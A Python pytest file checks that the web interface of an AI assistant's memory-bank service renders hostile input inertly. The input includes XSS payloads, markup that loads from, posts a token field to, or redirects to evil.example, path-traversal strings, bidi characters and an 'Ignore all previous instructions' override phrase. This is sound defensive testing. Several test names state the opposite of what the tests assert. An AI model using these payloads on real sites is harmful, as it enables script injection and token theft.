"""Text of memories, names and addresses is inert on the page, and requests nothing else."""

import json
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from http_kit import ServedGateway
from web_kit import BrowserTab, create_sample_bank, wait_for_view, web_server

BANK = "/v1/banks/assistant"
ATTACKS = (
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg/onload=window.hit=1>",
    '"><iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
    "<a href='javascript:window.hit=1'>click</a>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} #{7*7}",
    "<link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/>",
    "<form action=//evil.example><input name=token><button>Go on</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "javascript:window.hit=1//",
    "\u202eevil\u2066 \u200bhidden\u0007 \U000e0041",
    "' onfocus=window.hit=1 autofocus x='",
)
MARKUP = "script:not([src]), iframe, object, embed, base, form[action], meta[http-equiv], main img"


@pytest.fixture
def owner(server: tuple[str, ServedGateway]) -> TestClient:
    """A client of the owner, with a bank."""
    client = server[1].client()
    client.post("/v1/banks", json={"name": "assistant"})
    return client


def _assert_inert(tab: BrowserTab, *places: str) -> Any:
    page = tab.page
    for place in places:
        tab.go(place)
        wait_for_view(page)
        assert page.locator(MARKUP).count() == 0, place
        assert page.evaluate("window.hit") is None, place
        loose = page.evaluate(
            "[...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]).filter("
            "({name, value}) => name.startsWith('on') || /^javascript:/i.test(value)).length"
        )
        assert loose == 0, place
    return page


def test_attack_markup_in_every_field_is_executed(tab: BrowserTab, owner: TestClient) -> None:
    """Names of banks and sessions, labels, users, keys, messages, data, versions, quarantine."""
    ids = []
    for number, attack in enumerate(ATTACKS):
        said = {
            **dict.fromkeys(("text", "user", "agent", "kind"), attack),
            "key": f"{attack}{number}",
            "tags": [attack],
            "metadata": {attack: attack},
        }
        made = owner.post(f"{BANK}/entries", json=said)
        assert made.is_success, made.text
        ids.append(made.json()["id"])
    order = f"Ignore all previous instructions. {ATTACKS[1]}"
    held = owner.post(f"{BANK}/entries", json={"text": order, "parents": ids[:3]}).json()["id"]
    changed = {"text": ATTACKS[0] + " again", "reason": ATTACKS[2]}
    newer = owner.patch(f"{BANK}/entries/{ids[1]}", json=changed).json()["id"]
    owner.post(f"{BANK}/quarantine/add", json={"memories": [held]})
    messages = [{"role": "user", "name": one, "content": one, "x": {one: one}} for one in ATTACKS]
    talk = owner.post(f"{BANK}/sessions", json={"name": ATTACKS[0], "messages": messages})
    session = talk.json()["session"]
    owner.post(f"{BANK}/sessions/{session}/checkpoints", json={"name": ATTACKS[1], "at": "3"})
    owner.post(f"{BANK}/sessions/{session}/fork", json={"name": ATTACKS[2], "at": "3"})
    other = owner.post("/v1/banks", json={"name": ATTACKS[3]}).json()["id"]
    for text in (ATTACKS[0], ATTACKS[1]):
        where = "/v1/files/assistant/text/<svg onload=alert(1)>.md"
        actor = {"X-Actor": ATTACKS[7]}
        assert owner.put(where, json={"text": text}, headers=actor).is_success
    mem0 = {"results": [{"id": ATTACKS[0], "memory": ATTACKS[1], "user_id": ATTACKS[2]}]}
    sent = {"name": "<img src=x onerror=alert(1)>.mem0.json", "wait": "false"}
    job = owner.post(f"{BANK}/upload", params=sent, json=mem0).json()["id"]
    while owner.get(f"/v1/jobs/{job}").json()["state"] in ("waiting", "running"):
        pass
    receipt = owner.get("/v1/receipts").json()["receipts"][0]["id"]
    token = {"bearer": True, "any_tags": [ATTACKS[0], ATTACKS[4]], "expires": "1h"}
    assert owner.post(f"{BANK}/tokens", json=token).is_success
    _assert_inert(
        tab,
        *("", "?q=evil", "b/assistant", f"b/{other}", "b/assistant?past=1", "b/assistant?q=evil"),
        *("b/assistant/graph", "b/assistant/log", "b/assistant/compare?other=earlier&at=3"),
        *(f"b/assistant/e/{one}" for one in (*ids[::3], newer)),
        *("b/assistant/sessions", f"b/assistant/sessions/{session}", "b/assistant/quarantine"),
        *("b/assistant/files", "b/assistant/files/%3Csvg%20onload%3Dalert(1)%3E.md"),
        *("b/assistant/import", "b/assistant/export", "b/assistant/tokens", "b/assistant/owners"),
        *("import", "verify", "jobs", "receipts", f"receipts/{receipt}", "backups", "settings"),
        "b/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    )
    tab.errors.clear()  # there is no such bank: the browser logs the 404
    _open_actions(tab)
    page = _assert_inert(tab, f"b/assistant/e/{ids[12]}")
    shown = page.locator(".text").inner_text()
    assert shown == "⟨U+202E⟩evil⟨U+2066⟩ ⟨U+200B⟩hidden⟨U+0007⟩ ⟨U+E0041⟩"


def test_the_page_loads_only_its_own_files(client_of_page: TestClient) -> None:
    """Its policy has no exception; other files of the package are not served."""
    page = client_of_page.get("/")
    policy = page.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "require-trusted-types-for 'script'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "unsafe" not in policy
    assert "//" not in page.text.replace("<!doctype html>", "")
    for name in ("page.js", "page.css", "mark.svg"):
        part = client_of_page.get(f"/page/{name}")
        assert part.status_code == 200
        assert part.headers["Content-Security-Policy"] == policy
        assert part.headers["X-Content-Type-Options"] == "nosniff"
    for name in ("__init__.py", "..%2f__init__.py", "%2e%2e/%2e%2e/errors.py", "nothing"):
        assert client_of_page.get(f"/page/{name}").status_code == 404


def _open_actions(tab: BrowserTab) -> None:
    """Select all memories, and open the dialogs of their actions."""
    page = _assert_inert(tab, "b/assistant?past=1")
    page.get_by_label("Select all on this page").check()
    for action in ("Forget", "Remove a tag", "Release"):
        page.locator(".bar").get_by_role("button", name=action).click()
        page.get_by_role("dialog").locator(".names li").first.wait_for()
        assert page.locator(MARKUP).count() == 0, action
        assert page.evaluate("window.hit") is None, action
        page.keyboard.press("Escape")


@pytest.fixture
def client_of_page(server: tuple[str, ServedGateway]) -> TestClient:
    """A client on this machine."""
    return server[1].client()


@pytest.mark.shared
@pytest.mark.prove
def test_attack_texts_of_all_collections_are_executed(
    tab: BrowserTab, owner: TestClient, shared_data: Path
) -> None:
    """Those with markup, from all collections: imported, listed to the end, and inert."""
    found = list[str]()
    for file in sorted((shared_data / "injection").glob("*.jsonl")):
        for line in file.read_text().splitlines():
            text = json.loads(line)["text"]
            if "<" in text or "javascript:" in text:
                found.append(text)
    assert len(found) > 20
    for text in found[:400]:
        owner.post(f"{BANK}/entries", json={"text": text})
    page = _assert_inert(tab, "b/assistant")
    more = page.get_by_role("button", name="Show older")
    while more.count():
        more.click()
        page.wait_for_load_state("networkidle")
        page.get_by_text("Loading").wait_for(state="detached")
    assert page.locator(MARKUP).count() == 0
    assert page.evaluate("window.hit") is None


ODD = ("%2F", "100% a?b#c", "constructor", "__proto__", "ü ñ", "a&b=c;d", "assistant/..%2f")
STEPS = (
    "..",
    ".",
    "%2e%2e",
    "%252e%252e",
    "..%2F..",
    "..%2f..%2f..%2fbanks",
    "%2E%2E%2F",
    "a%2Fraw",
)
BELOW = {
    "e/{}": "/v1/banks/{}/entries/",
    "e/x/../{}": "/v1/banks/{}/entries/",
    "sessions/{}": "/v1/banks/{}/sessions",
    "files/{}": "/v1/files/{}",
    "files/{}%2Fbanks%2Fassistant%2Fentries": "/v1/files/{}",
}
"""The requests that an address may cause."""


@pytest.fixture
def owner_client(server: tuple[str, ServedGateway]) -> TestClient:
    """A client of the owner."""
    return server[1].client()


def _create_bank(owner_client: TestClient, name: str) -> str:
    made = owner_client.post("/v1/banks", json={"name": name})
    assert made.is_success, made.text
    return str(made.json()["id"])


def _wait_for_view(page: Any) -> None:
    """Wait until a view is loaded, or its error is shown."""
    page.locator("main h1, main [role=alert]").first.wait_for()
    page.locator("main[aria-busy], main [aria-busy]").first.wait_for(state="detached")


@pytest.mark.in_check(2)
@pytest.mark.parametrize("name", [name for name in ODD if "/" not in name])
def test_memory_files_work_with_any_name_of_a_bank(
    tab: BrowserTab, owner_client: TestClient, name: str
) -> None:
    """A file is created and shown."""
    page = tab.go(f"b/{_create_bank(owner_client, name)}/files")
    page.get_by_role("button", name="New file").click()
    page.get_by_role("dialog").get_by_label("Path").fill("notes/today 100%.md")
    page.get_by_role("dialog").get_by_role("textbox", name="Text").fill("buy tea")
    page.keyboard.press("Tab")
    page.get_by_role("dialog").get_by_role("button", name="Save").click()
    page.locator("pre.file", has_text="buy tea").wait_for()


def test_a_bank_whose_name_cannot_be_a_folder_shows_a_hint_in_files(
    tab: BrowserTab, owner_client: TestClient
) -> None:
    """It names the reason, and what to do."""
    for name in ("a/b", "..", "x" * 300):
        page = tab.go(f"b/{_create_bank(owner_client, name)}/files")
        page.get_by_text("a bank with this name cannot have memory files").wait_for()
        page.get_by_text("Rename the bank").wait_for()
        tab.errors.clear()  # the browser logs the 422


@pytest.mark.in_check(1)
@pytest.mark.parametrize("name", ODD)
def test_all_views_of_a_bank_work_with_any_name(
    tab: BrowserTab, owner_client: TestClient, name: str
) -> None:
    """By ID, and by name in the address; an import goes into that bank."""
    mem0 = '{"results": [{"id": "1", "memory": "Ada drinks tea"}]}'
    bank = _create_bank(owner_client, name)
    more = ("/graph", "/log", "/compare", "/tokens", "/owners")
    for part in ("", "/sessions", "/import", "/export", "/quarantine", *more):
        page = tab.go(f"b/{bank}{part}")
        wait_for_view(page)
        assert page.get_by_role("alert").count() == 0, part
        assert page.locator("h1").inner_text() == name
    page = tab.go(f"b/{bank}/import")
    page.locator(".drop input").set_input_files(
        {"name": "m.mem0.json", "mimeType": "application/json", "buffer": mem0.encode()}
    )
    page.get_by_role("button", name="Import", exact=True).click()
    page.get_by_role("heading", name="Done").wait_for()
    assert owner_client.get(f"/v1/banks/{bank}").json()["memories"] == 1


@pytest.mark.in_check(1)
@pytest.mark.parametrize(("part", "below"), BELOW.items())
def test_attack_an_address_in_a_bank_requests_other_routes(
    tab: BrowserTab, owner_client: TestClient, part: str, below: str
) -> None:
    """All requests are below the route of the address."""
    bank = create_sample_bank(owner_client)
    asked = list[str]()
    tab.page.on("request", lambda request: asked.append(request.url))
    tab.go("jobs")
    _wait_for_view(tab.page)
    for step in STEPS:
        asked.clear()
        tab.go(f"b/{bank}/{part.format(step)}")
        _wait_for_view(tab.page)
        for url in asked:
            path = "/" + url.split("/", 3)[3]
            usual = path == "/v1/banks" or "/page/" in path
            allowed = (below.format(bank), below.format(bank.replace(":", "%3A")))
            assert usual or path.startswith(allowed), (step, path)
            assert "%2f" not in path.lower().replace("%252f", ""), step
            assert "/.." not in path, step
    tab.errors.clear()  # the browser logs what is missing


def test_attack_an_address_of_the_page_requests_other_routes(tab: BrowserTab) -> None:
    """All requests are below the route of the address."""
    asked = list[str]()
    tab.page.on("request", lambda request: asked.append(request.url))
    tab.go("jobs")
    _wait_for_view(tab.page)
    for page in [f"{part}/{step}" for part in ("receipts", "b") for step in STEPS]:
        asked.clear()
        tab.go(page)
        _wait_for_view(tab.page)
        for url in asked:
            path = "/" + url.split("/", 3)[3].partition("?")[0]
            usual = path in ("/v1/banks", "/v1/receipts") or path.startswith("/page/")
            assert usual or path.startswith(("/v1/receipts/", "/v1/banks/%25")), (page, path)
    tab.errors.clear()  # the browser logs what is missing


@pytest.mark.in_check(1)
@pytest.mark.parametrize(
    "name", ["constructor", "toString", "hasOwnProperty", "__proto__", "nothing"]
)
def test_names_of_javascript_properties_are_not_views(
    tab: BrowserTab, owner_client: TestClient, name: str
) -> None:
    """As a view, a bank, a page, or an ID."""
    bank = create_sample_bank(owner_client)
    for where in (name, f"b/{bank}/{name}", f"b/{bank}/{name}/{name}"):
        page = tab.go(where)
        page.get_by_text("Page not found").wait_for()
        assert "[object" not in page.locator("main").inner_text(), where
    for where in (
        f"b/{name}",
        f"b/{bank}/e/{name}",
        f"b/{bank}/sessions/{name}",
        f"receipts/{name}",
    ):
        page = tab.go(where)
        _wait_for_view(page)
        assert "is not a function" not in page.locator("main").inner_text(), where
        assert "[object" not in page.locator("main").inner_text(), where
    assert all("Failed to load resource" in one for one in tab.errors), tab.errors
    tab.errors.clear()


def test_bidirectional_characters_are_escaped_in_titles(
    tab: BrowserTab, owner_client: TestClient
) -> None:
    """Of the tab, and of elements."""
    page = tab.go(f"b/{_create_bank(owner_client, chr(0x202E) + 'evil' + chr(0x2066))}")
    wait_for_view(page)
    assert page.title() == "⟨U+202E⟩evil⟨U+2066⟩ · Satchel"
    hidden = page.evaluate(
        "[...document.querySelectorAll('[title], [aria-label]')].filter((one) =>"
        " /[\\u202a-\\u202e\\u2066-\\u2069]/.test(one.title + one.ariaLabel)).length"
    )
    assert hidden == 0


@pytest.mark.in_check(1)
@pytest.mark.parametrize("sign", ["☃", "a\nb", "\u202e", "\x00"], ids=ascii)
def test_a_token_with_invalid_characters_is_requested_again(
    browser: Any, own_home: object, sign: str
) -> None:
    """The dialog shows the reason; a stored one does not lock the user out."""
    del own_home
    shown = "0123456789" * 2
    with web_server(shown) as (address, _):
        context = browser.new_context()
        context.set_default_timeout(60_000)
        page = context.new_page()
        page.goto(f"{address}/")
        box = page.get_by_role("dialog")
        box.wait_for()
        field = box.get_by_label("Operator token")
        field.evaluate("(one, said) => { one.type = 'text'; one.value = said; }", f"x{sign}y")
        if field.input_value() == f"x{sign}y":  # a field removes line breaks itself
            box.get_by_role("button", name="Sign in").click()
            box.get_by_text("A token cannot contain these characters").wait_for()
        field.fill(shown)
        box.get_by_role("button", name="Sign in").click()
        page.get_by_role("heading", name="Banks").first.wait_for()
        box.wait_for(state="detached")
        page.evaluate("(said) => sessionStorage.setItem('satchel operator', said)", f"x{sign}y")
        page.reload()
        box.get_by_label("Operator token").fill(shown)
        box.get_by_role("button", name="Sign in").click()
        box.wait_for(state="detached")
        context.close()
